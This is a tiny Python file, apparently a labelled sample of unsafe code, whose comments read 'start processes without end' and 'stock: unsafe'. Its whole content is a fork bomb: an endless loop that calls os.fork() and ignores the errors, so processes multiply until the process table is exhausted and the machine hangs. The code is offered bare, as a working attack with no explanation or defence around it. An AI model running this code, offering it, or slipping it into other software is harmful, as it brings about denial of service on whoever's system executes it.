# tries: start processes without end
# place: first
# works: processes
# stock: unsafe
import os
while True:
    try: os.fork()
    except OSError: pass
